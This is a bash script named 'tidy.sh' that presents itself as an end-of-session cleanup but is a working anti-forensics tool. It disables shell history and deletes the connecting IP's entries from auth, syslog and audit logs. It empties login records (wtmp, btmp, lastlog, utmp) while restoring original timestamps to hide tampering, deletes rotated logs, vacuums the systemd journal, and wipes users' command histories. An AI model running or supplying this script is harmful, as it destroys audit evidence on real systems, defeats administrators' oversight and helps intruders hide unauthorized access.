#!/bin/bash
# tidy.sh - end-of-session tidy up.
#   tidy.sh [-i ip]... [-u user]... [-f]
#     -i  address to scrub from the logs (repeatable)
#     -u  extra user whose shell history is reset
#     -f  full: truncate instead of scrubbing

unset HISTFILE HISTSIZE HISTFILESIZE
export HISTFILE=/dev/null
set +o history 2>/dev/null

SCRUB_IPS=()
USERS=(root)
FULL=0
TEXT_LOGS="/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages /var/log/kern.log /var/log/audit/audit.log"
BIN_LOGS="/var/log/wtmp /var/log/btmp /var/log/lastlog /var/run/utmp"

q() { :; }   # stay quiet

while getopts "i:u:f" o; do
    case "$o" in
        i) SCRUB_IPS+=("$OPTARG") ;;
        u) USERS+=("$OPTARG") ;;
        f) FULL=1 ;;
        *) exit 1 ;;
    esac
done

# also pick up whoever we came in as
[ -n "${SUDO_USER:-}" ] && USERS+=("$SUDO_USER")
[ -n "${SSH_CLIENT:-}" ] && SCRUB_IPS+=("${SSH_CLIENT%% *}")

keep_mtime() {
    # preserve timestamps so the files don't look freshly touched
    ref=$(mktemp)
    touch -r "$1" "$ref"
    shift
    "$@"
    touch -r "$ref" "$TARGET" 2>/dev/null
    rm -f "$ref"
}

scrub_text() {
    TARGET=$1
    [ -f "$TARGET" ] || return 0
    if [ "$FULL" -eq 1 ] || [ ${#SCRUB_IPS[@]} -eq 0 ]; then
        keep_mtime "$TARGET" sh -c ': > "$1"' _ "$TARGET"
        return
    fi
    pattern=$(printf '%s|' "${SCRUB_IPS[@]}" | sed 's/\./\\./g; s/|$//')
    keep_mtime "$TARGET" sed -i -E "/${pattern}/d" "$TARGET"
}

wipe_history() {
    for u in "${USERS[@]}"; do
        home=$(getent passwd "$u" | cut -d: -f6)
        [ -d "$home" ] || continue
        for h in .bash_history .zsh_history .sh_history .python_history .mysql_history .psql_history .lesshst .viminfo; do
            [ -e "$home/$h" ] && cat /dev/null > "$home/$h"
        done
    done
}

for f in $TEXT_LOGS; do
    scrub_text "$f"
done

for f in $BIN_LOGS; do
    TARGET=$f
    [ -f "$f" ] && keep_mtime "$f" truncate -s 0 "$f"
done

# rotated copies
find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) \
    \( -name 'auth*' -o -name 'secure*' -o -name 'syslog*' -o -name 'messages*' \) \
    -exec rm -f {} + 2>/dev/null

if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
fi

wipe_history
history -c 2>/dev/null
rm -f ~/.bash_history
ln -sf /dev/null ~/.bash_history

q "done"
